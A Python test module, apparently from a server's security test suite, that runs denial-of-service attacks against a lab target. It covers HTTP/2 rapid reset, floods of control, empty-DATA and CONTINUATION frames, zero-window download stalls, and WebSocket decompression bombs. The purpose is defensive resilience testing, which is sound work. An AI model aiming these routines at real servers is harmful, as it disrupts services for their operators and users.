"""Attacks by frames: HTTP/2 and WebSocket."""

import contextlib
import socket
import struct

import h2.connection

from tests.attacks.host import bomb
from tests.attacks.lab import Lab
from tests.attacks.ways import HEAD, hold, many, opened, raw
from tests.sidecar import HOST

# HTTP/2.


class H2:
    def __init__(self, lab: Lab) -> None:
        context = lab.sidecar.trust()
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(raw(lab), server_hostname=HOST)
        self.socket.settimeout(5)
        self.http = h2.connection.H2Connection()
        self.http.initiate_connection()
        self.socket.sendall(self.http.data_to_send())

    def head(self, path: str, *, end: bool = True) -> int:
        stream: int = self.http.get_next_available_stream_id()
        head = [(":method", "GET"), (":path", path), (":authority", HOST), (":scheme", "https")]
        self.http.send_headers(stream, head, end_stream=end)
        return stream

    def flush(self) -> None:
        self.socket.sendall(self.http.data_to_send())

    def ended(self) -> bool:
        """True if the server sent GOAWAY and closed."""
        received = b""
        with contextlib.suppress(TimeoutError):
            while data := self.socket.recv(65536):
                received += data
            return b"\x07\x00\x00\x00\x00\x00" in received
        return False


def rapid_reset(lab: Lab) -> None:
    client = H2(lab)
    for _ in range(20_000):
        client.http.reset_stream(client.head("/hang"))
        if len(client.http._data_to_send) > 60_000:
            client.flush()
    client.flush()
    client.ended()


def control_frames(lab: Lab, one: bytes, number: int = 40_000) -> None:
    client = H2(lab)
    client.socket.settimeout(2)
    for _ in range(number // 1000):
        client.socket.sendall(one * 1000)
    client.ended()


def h2_frame(kind: int, content: bytes = b"", stream: int = 0, flags: int = 0) -> bytes:
    return struct.pack("!I", len(content))[1:] + struct.pack("!BBI", kind, flags, stream) + content


def empty_data(lab: Lab) -> None:
    client = H2(lab)
    stream = client.head("/body", end=False)
    client.flush()
    client.socket.sendall(h2_frame(0, stream=stream) * 40_000)
    client.ended()


def continuations(lab: Lab) -> None:
    begun = h2_frame(1, b"\x00" * 16_000, 1) + h2_frame(9, b"\x00" * 16_000, 1) * 62
    hold([x.socket for x in [H2(lab) for _ in range(60)] if not x.socket.sendall(begun)])


def closed_windows(lab: Lab) -> None:
    """Downloads that the client's windows do not allow."""
    clients = [H2(lab) for _ in range(10)]
    for client in clients:
        client.http.update_settings({4: 0})
        for _ in range(5):
            client.head("/download")
        client.flush()
    hold([x.socket for x in clients], 3)


# WebSocket.


def websocket(lab: Lab, path: str = "websocket") -> socket.socket:
    connection = opened(lab)
    connection.settimeout(5)
    connection.sendall(
        HEAD % f"/{path}".encode() + b"Upgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
    return connection


def messages(lab: Lab, data: bytes, times: int = 1, begin: bytes = b"") -> None:
    with websocket(lab) as connection, contextlib.suppress(OSError):
        connection.recv(4096)
        connection.sendall(begin)
        for _ in range(times):
            connection.sendall(data)
        while connection.recv(65536):
            pass


def bombs_from_the_host(lab: Lab) -> None:
    for connection in many(3, lambda: websocket(lab, "bomb")):
        with contextlib.suppress(OSError):
            while connection.recv(65536):
                pass
        connection.close()


PING = h2_frame(6, b"12345678")
BOMB = bomb(masked=True)
